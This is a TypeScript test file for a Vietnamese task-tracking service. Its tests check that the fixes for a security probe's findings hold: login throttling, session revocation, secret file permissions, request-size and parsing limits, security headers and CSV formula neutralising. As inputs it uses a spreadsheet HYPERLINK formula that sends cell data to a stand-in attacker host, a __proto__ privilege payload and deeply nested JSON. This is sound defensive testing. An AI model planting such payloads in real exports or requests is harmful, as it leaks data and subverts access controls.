import { DataSource } from 'typeorm';
import { Db } from '../src/database/db.service';
import { statSync, existsSync, readFileSync } from 'fs';
import { join } from 'path';
import { gzipSync } from 'zlib';
import { PASSWORD, TestApp, createProgram, createTask, formClient, startApp } from './support/app';
import { itOnPostgres, itOnSqlite } from './support/databases';

/**
 * The holes a security probe found (issue 16), each reproduced against the real service:
 * sign-in throttling across requests and instances, revocable sessions, secrets and file
 * modes, request bodies, headers, formulas in CSV, and the small ones.
 */
describe('security: sign-in throttling', () => {
  let t: TestApp;
  beforeAll(async () => {
    // Behind a reverse proxy on loopback: X-Forwarded-For names the client.
    t = await startApp('2025-09-01', { env: { TRUST_PROXY: 'loopback' } });
  });
  afterAll(() => t.close());

  const login = (app: TestApp, username: string, password: string, ip = '203.0.113.7') =>
    app.http().post('/api/auth/login').set('X-Forwarded-For', ip).send({ username, password });

  it('counts parallel guesses before checking any password: the right one sent among 49 wrong ones does not get in', async () => {
    const guesses = Array.from({ length: 49 }, (_, i) => login(t, 'office', `sai-mat-khau-${i}`));
    const statuses = (await Promise.all([...guesses, login(t, 'office', PASSWORD)])).map((r) => r.status);
    expect(statuses.filter((s) => s === 200)).toEqual([]);
    expect(statuses.filter((s) => s === 401).length).toBeLessThanOrEqual(5);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(45);
    const wait = await login(t, 'office', PASSWORD);
    expect(wait.status).toBe(429);
    expect(wait.body.message).toMatch(/Vui lòng thử lại sau \d+ (giây|phút)/);
  });

  it('slows only the address that guessed: the user signs in from elsewhere, and another username is untouched', async () => {
    await login(t, 'office', PASSWORD, '198.51.100.20').expect(200);
    await login(t, 'inspection', PASSWORD).expect(200);
  });

  it('doubles the wait after each further failure, and a success clears the count', async () => {
    for (let i = 0; i < 5; i++) await login(t, 'xdd', 'sai-mat-khau', '192.0.2.9').expect(401);
    await login(t, 'xdd', PASSWORD, '192.0.2.9').expect(429);
    t.clock.set(new Date(t.clock.now().getTime() + 31_000));
    await login(t, 'xdd', 'sai-mat-khau', '192.0.2.9').expect(401);
    // The sixth failure: now 60 s.
    t.clock.set(new Date(t.clock.now().getTime() + 31_000));
    const res = await login(t, 'xdd', PASSWORD, '192.0.2.9').expect(429);
    expect(res.body.message).toMatch(/sau (29|30) giây/);
    t.clock.set(new Date(t.clock.now().getTime() + 30_000));
    await login(t, 'xdd', PASSWORD, '192.0.2.9').expect(200);
    await login(t, 'xdd', 'sai-mat-khau', '192.0.2.9').expect(401);
    await login(t, 'xdd', PASSWORD, '192.0.2.9').expect(200);
    t.clock.set('2025-09-01');
  });

  it('is seen by a second instance of the service on the same database', async () => {
    const second = await startApp('2025-09-01', { dbPath: t.dbPath, env: { TRUST_PROXY: 'loopback' } });
    try {
      for (let i = 0; i < 5; i++) await login(t, 'congan', 'sai-mat-khau', '192.0.2.50').expect(401);
      await login(second, 'congan', PASSWORD, '192.0.2.50').expect(429);
    } finally {
      await second.close();
    }
  });

  it('keeps no failure map in memory that spraying other names could flush', async () => {
    const ds = t.app.get(DataSource);
    const rows = await ds.query(`SELECT "key", failures FROM login_attempts WHERE "key" LIKE 'congan%'`);
    expect(rows).toEqual([{ key: 'congan\u001f192.0.2.50', failures: 5 }]);
  });
});

describe('security: sessions', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startApp('2025-09-01');
  });
  afterAll(() => t.close());

  const signIn = async (username: string, password = PASSWORD) =>
    (await t.http().post('/api/auth/login').send({ username, password }).expect(200)).body.token as string;
  const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });

  it('sign-out revokes the token it is called with, and only that one', async () => {
    const a = await signIn('inspection');
    const b = await signIn('inspection');
    await t.http().post('/api/auth/logout').set(bearer(a)).expect(200);
    await t.http().get('/api/tasks').set(bearer(a)).expect(401);
    await t.http().get('/api/tasks').set(bearer(b)).expect(200);
  });

  it('sign-out everywhere revokes every session of the user', async () => {
    const a = await signIn('inspection');
    const b = await signIn('inspection');
    const res = await t.http().post('/api/auth/logout-all').set(bearer(a)).expect(200);
    expect(res.body.revoked).toBeGreaterThanOrEqual(2);
    await t.http().get('/api/tasks').set(bearer(a)).expect(401);
    await t.http().get('/api/tasks').set(bearer(b)).expect(401);
    await t.http().get('/api/tasks').set(t.as('office')).expect(200);
  });

  it("an admin's password change or deactivation ends the user's sessions", async () => {
    const users = (await t.http().get('/api/users').set(t.as('admin')).expect(200)).body as { id: number; username: string }[];
    const id = users.find((u) => u.username === 'inspection')!.id;
    const before = await signIn('inspection');
    await t.http().patch(`/api/users/${id}`).set(t.as('admin')).send({ password: 'mat-khau-moi-2026' }).expect(200);
    await t.http().get('/api/tasks').set(bearer(before)).expect(401);
    const after = await signIn('inspection', 'mat-khau-moi-2026');
    await t.http().patch(`/api/users/${id}`).set(t.as('admin')).send({ displayName: 'UBKT Đảng ủy' }).expect(200);
    await t.http().get('/api/tasks').set(bearer(after)).expect(200);
    await t.http().patch(`/api/users/${id}`).set(t.as('admin')).send({ active: false }).expect(200);
    await t.http().get('/api/tasks').set(bearer(after)).expect(401);
    await t.http().patch(`/api/users/${id}`).set(t.as('admin')).send({ active: true }).expect(200);
    await t.http().get('/api/tasks').set(bearer(after)).expect(401);
  });

  it("the pages' sign-out revokes the cookie's session: replaying the cookie gets nothing", async () => {
    const c = await formClient(t);
    const res = await c.post('/login', { username: 'congan', password: PASSWORD }).expect(303);
    const cookie = (res.headers['set-cookie'] as unknown as string[]).find((x) => x.startsWith('dondoc_session='))!.split(';')[0];
    await t.http().get('/api/tasks').set('Cookie', cookie).expect(200);
    const page = await c.agent.get('/unit').expect(200);
    const csrf = /name="_csrf" value="([^"]+)"/.exec(page.text)![1];
    await c.agent.post('/logout').type('form').send({ _csrf: csrf }).expect(303);
    await t.http().get('/api/tasks').set('Cookie', cookie).expect(401);
    expect((await t.http().get('/unit').set('Cookie', cookie)).status).toBe(303);
  });

  it('refuses a password shorter than the rule everywhere', async () => {
    const res = await t.http().post('/api/users').set(t.as('admin')).send({ username: 'ngan', displayName: 'Ngắn', role: 'office', password: 'x' }).expect(400);
    expect(res.body.errors).toEqual([{ field: 'password', message: 'Mật khẩu: mật khẩu từ 10 đến 200 ký tự' }]);
  });
});

describe('security: secrets and files', () => {
  // A generated secret file suits one machine; on PostgreSQL every instance must share one secret.
  itOnSqlite('keeps a generated secret in a 0600 file beside the database, never in it, and creates the database 0600', async () => {
    const t = await startApp('2025-09-01', { env: { AUTH_SECRET: '' } });
    try {
      const file = join(t.dir, 'auth.secret');
      expect(existsSync(file)).toBe(true);
      expect(statSync(file).mode & 0o777).toBe(0o600);
      expect(readFileSync(file, 'utf8').trim().length).toBeGreaterThanOrEqual(32);
      expect(statSync(t.dbPath).mode & 0o077).toBe(0);
      const rows = await t.app.get(DataSource).query(`SELECT "key" FROM settings WHERE "key" = 'auth.secret'`);
      expect(rows).toEqual([]);
      await t.http().get('/api/tasks').set(t.as('office')).expect(200);
    } finally {
      await t.close();
    }
  });

  itOnPostgres('refuses to start on PostgreSQL without AUTH_SECRET or AUTH_SECRET_FILE, the same for every instance', async () => {
    await expect(startApp('2025-09-01', { env: { AUTH_SECRET: '' } })).rejects.toThrow(/AUTH_SECRET or AUTH_SECRET_FILE/);
  });

  itOnSqlite('moves a secret an older version kept in the database into the file, so signed-in users stay signed in', async () => {
    const t = await startApp('2025-09-01', { env: { AUTH_SECRET: '' } });
    const file = join(t.dir, 'auth.secret');
    const secret = readFileSync(file, 'utf8').trim();
    const token = t.token('office');
    const ds = t.app.get(DataSource);
    // As an older version left it: the secret in settings, no file.
    await ds.query(`INSERT INTO settings ("key", value) VALUES ('auth.secret', ?)`, [secret]);
    const { rmSync } = await import('fs');
    rmSync(file);
    const second = await startApp('2025-09-01', { dbPath: t.dbPath, env: { AUTH_SECRET: '' } });
    try {
      expect(readFileSync(file, 'utf8').trim()).toBe(secret);
      expect(await ds.query(`SELECT "key" FROM settings WHERE "key" = 'auth.secret'`)).toEqual([]);
      await second
        .http()
        .get('/api/tasks')
        .set({ Authorization: `Bearer ${token}` })
        .expect(200);
    } finally {
      await second.close();
      await t.close();
    }
  });
});

describe('security: request bodies, headers and small holes', () => {
  let t: TestApp;
  let programId: number;
  let taskId: number;
  beforeAll(async () => {
    t = await startApp('2025-09-01');
    programId = await createProgram(t);
    taskId = (await createTask(t, programId, { leadUnitId: t.unitId('Ban Xây dựng Đảng'), deadline: 'trong tháng 9/2025' })).id;
  });
  afterAll(() => t.close());

  const noStack = (text: string) => expect(text).not.toMatch(/\n\s+at |node_modules|Error:/);

  it('answers 413 to a JSON body over 1 MB, anonymously on the sign-in route too', async () => {
    const big = JSON.stringify({ username: 'admin', password: 'x'.repeat(2 * 1024 * 1024) });
    const res = await t.http().post('/api/auth/login').set('Content-Type', 'application/json').send(big).expect(413);
    expect(res.body.message).toMatch(/quá lớn/);
    noStack(res.text);
    const huge = JSON.stringify({ programId, text: 'y'.repeat(12 * 1024 * 1024) });
    const res2 = await t.http().post('/api/tasks').set(t.as('office')).set('Content-Type', 'application/json').send(huge).expect(413);
    noStack(res2.text);
  });

  it('answers 415 to a charset or content-encoding it cannot read, and 400 to a truncated gzip body', async () => {
    const cs = await t
      .http()
      .post('/api/auth/login')
      .set('Content-Type', 'application/json; charset=koi8-r')
      .send('{"username":"a","password":"b"}')
      .expect(415);
    expect(cs.body.message).toMatch(/Bảng mã/);
    const enc = await t
      .http()
      .post('/api/auth/login')
      .set('Content-Type', 'application/json')
      .set('Content-Encoding', 'compress')
      .send('{"username":"a","password":"b"}')
      .expect(415);
    expect(enc.body.message).toMatch(/Kiểu nén/);
    const gz = gzipSync(Buffer.from(JSON.stringify({ username: 'admin', password: 'p'.repeat(5000) })));
    const cut = await t
      .http()
      .post('/api/auth/login')
      .set('Content-Type', 'application/json')
      .set('Content-Encoding', 'gzip')
      .send(gz.subarray(0, gz.length - 200))
      .expect(400);
    noStack(cut.text);
    const bad = await t.http().post('/api/auth/login').set('Content-Type', 'application/json').send('{"username": "a",').expect(400);
    expect(bad.body.message).toBe('Nội dung JSON không hợp lệ');
  });

  it('answers 400 to JSON nested 50,000 deep, before parsing it', async () => {
    const deep = '['.repeat(50_000) + ']'.repeat(50_000);
    const res = await t
      .http()
      .post('/api/tasks')
      .set(t.as('office'))
      .set('Content-Type', 'application/json')
      .send(`{"programId":${programId},"text":"abc","x":${deep}}`)
      .expect(400);
    expect(res.body.message).toMatch(/lồng nhau quá sâu/);
  });

  it('answers 413 to a page form over 200 kB, as a page', async () => {
    const c = await formClient(t);
    const res = await c.post('/login', { username: 'admin', password: 'p'.repeat(300 * 1024) }).expect(413);
    expect(res.headers['content-type']).toMatch(/text\/html/);
    expect(res.text).toContain('quá lớn');
    noStack(res.text);
  });

  it('answers 400 to out-of-range page numbers and ids that are not plain numbers', async () => {
    for (const q of ['page=1e20', 'page=99999999999999999999', 'pageSize=0', 'page=-1']) {
      const res = await t.http().get(`/api/tasks?${q}`).set(t.as('office'));
      expect({ q, status: res.status }).toEqual({ q, status: 400 });
    }
    for (const id of ['0x10', '1e1', '99999999999', '0']) {
      const res = await t.http().get(`/api/tasks/${id}`).set(t.as('office'));
      expect({ id, status: res.status }).toEqual({ id, status: 400 });
    }
    await t.http().get('/api/tasks/999999/reminders').set(t.as('office')).expect(404);
    await t.http().get(`/api/tasks/${taskId}/reminders`).set(t.as('office')).expect(200);
  });

  it('refuses __proto__ and constructor fields, and a text made only of invisible characters', async () => {
    const proto = await t
      .http()
      .post('/api/tasks')
      .set(t.as('office'))
      .set('Content-Type', 'application/json')
      .send(`{"programId":${programId},"text":"Nhiệm vụ","__proto__":{"admin":true}}`)
      .expect(400);
    expect(proto.body.message).toMatch(/__proto__/);
    await t
      .http()
      .post('/api/tasks')
      .set(t.as('office'))
      .send({ programId, text: 'Nhiệm vụ', constructor: { prototype: {} } })
      .expect(400);
    const before = (await t.http().get('/api/tasks').set(t.as('office'))).body.total;
    const invisible = await t.http().post('/api/tasks').set(t.as('office')).send({ programId, text: '\u0000\u200b\u200b\ufeff\u200d\u0000' }).expect(400);
    expect(invisible.body.errors).toEqual([{ field: 'text', message: 'Nội dung: không được để trống' }]);
    await t.http().post(`/api/tasks/${taskId}/done`).set(t.as('xdd')).send({ completedOn: '2025-09-01', resultNote: '\u200b \u200b\u0000' }).expect(400);
    expect((await t.http().get('/api/tasks').set(t.as('office'))).body.total).toBe(before);
    // Visible text keeps its letters, with the invisible ones gone.
    const ok = await t.http().post('/api/tasks').set(t.as('office')).send({ programId, text: 'Rà\u200b soát\u0000 hồ sơ' }).expect(201);
    expect(ok.body.text).toBe('Rà soát hồ sơ');
  });

  it('gives one Vietnamese message per field, with its label', async () => {
    const res = await t
      .http()
      .post(`/api/tasks/${taskId}/done`)
      .set(t.as('office'))
      .send({ completedOn: '2025-02-31', resultNote: 'ab', extra: 1 })
      .expect(400);
    expect(res.body.message).toBe('Dữ liệu không hợp lệ: extra, completedOn, resultNote');
    expect(res.body.errors).toEqual([
      { field: 'extra', message: 'extra: trường này không được phép gửi' },
      { field: 'completedOn', message: 'Ngày hoàn thành: phải là ngày có thật dạng YYYY-MM-DD' },
      { field: 'resultNote', message: 'Kết quả thực hiện: cần ít nhất 3 ký tự' },
    ]);
    const missing = await t.http().post(`/api/tasks/${taskId}/done`).set(t.as('office')).send({}).expect(400);
    expect(missing.body.errors).toEqual([
      { field: 'completedOn', message: 'Ngày hoàn thành: phải là ngày có thật dạng YYYY-MM-DD' },
      { field: 'resultNote', message: 'Kết quả thực hiện: bắt buộc' },
    ]);
    for (const e of [...res.body.errors, ...missing.body.errors]) expect(e.message).not.toMatch(/must|should|longer|shorter/);
  });

  it('sends nosniff everywhere, no-store and no framing on the API, a CSP on report.html, and no X-Powered-By', async () => {
    for (const path of ['/api/tasks', '/api/compliance/report.html?asOf=2025-09-30', '/health', '/login', '/assets/app.css']) {
      const res = await t.http().get(path).set(t.as('office'));
      expect({ path, powered: res.headers['x-powered-by'], nosniff: res.headers['x-content-type-options'] }).toEqual({
        path,
        powered: undefined,
        nosniff: 'nosniff',
      });
    }
    const api = await t.http().get('/api/tasks').set(t.as('office')).expect(200);
    expect(api.headers['cache-control']).toBe('no-store');
    const report = await t.http().get('/api/compliance/report.html?asOf=2025-09-30').set(t.as('office')).expect(200);
    expect(report.headers['content-security-policy']).toMatch(/default-src 'none'/);
    expect(report.headers['content-security-policy']).toMatch(/frame-ancestors 'none'/);
    expect(report.headers['content-security-policy']).not.toMatch(/script-src/);
    expect(report.headers['x-frame-options']).toBe('DENY');
    expect(report.headers['cache-control']).toBe('no-store');
  });

  it('neutralises formulas in the CSV export (unit names come from users and imported documents)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&B3,"Bấm")';
    const unit = (await t.http().post('/api/units').set(t.as('office')).send({ name: evil }).expect(201)).body;
    for (const name of ['+Chi bộ 1', '-Chi bộ 2', '@Chi bộ 3']) await t.http().post('/api/units').set(t.as('office')).send({ name }).expect(201);
    const other = (await t.http().post('/api/units').set(t.as('office')).send({ name: '+Chi bộ 1 Khu phố' }).expect(201)).body;
    await createTask(t, programId, { leadUnitId: unit.id, deadline: 'trong tháng 9/2025' });
    await createTask(t, programId, { leadUnitId: other.id, deadline: 'trong tháng 9/2025' });
    const csv = (await t.http().get('/api/compliance/export.csv?asOf=2025-09-30').set(t.as('office')).expect(200)).text;
    const cells = csv.split(/\r\n/).map((line) => line.split(',')[0]);
    expect(csv).not.toMatch(/(^|\r\n|,)"?=HYPERLINK/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&B3`);
    expect(cells).toContain("'+Chi bộ 1 Khu phố");
    for (const c of cells) expect(c).not.toMatch(/^"?[=+\-@]/);
  });

  it('says when a manual sweep was skipped because another process is sweeping', async () => {
    const db = t.app.get(Db);
    const [{ id }] = await db.query<{ id: number }>('SELECT id FROM committees LIMIT 1');
    await db.query(`INSERT INTO leases (name, holder, "expiresAt") VALUES (:name, 'another-instance', :until)`, {
      name: `sweep:${id}`,
      until: new Date(Date.now() + 600_000).toISOString(),
    });
    const res = await t.http().post('/api/reminders/run').set(t.as('office')).send({ date: '2025-09-01' }).expect(200);
    expect(res.body).toMatchObject({ written: 0, skipped: 'một tiến trình khác đang quét' });
    await db.query('DELETE FROM leases WHERE name = :name', { name: `sweep:${id}` });
  });
});

describe('security: API docs are a setting', () => {
  it('serves no /api/docs in production unless API_DOCS is set', async () => {
    const prod = await startApp('2025-09-01', { env: { NODE_ENV: 'production' } });
    try {
      await prod.http().get('/api/docs').expect(404);
      await prod.http().get('/api/docs-json').expect(404);
    } finally {
      await prod.close();
      process.env.NODE_ENV = 'test';
    }
    const on = await startApp('2025-09-01', { env: { NODE_ENV: 'production', API_DOCS: 'true' } });
    try {
      await on.http().get('/api/docs-json').expect(200);
    } finally {
      await on.close();
      process.env.NODE_ENV = 'test';
    }
  });
});
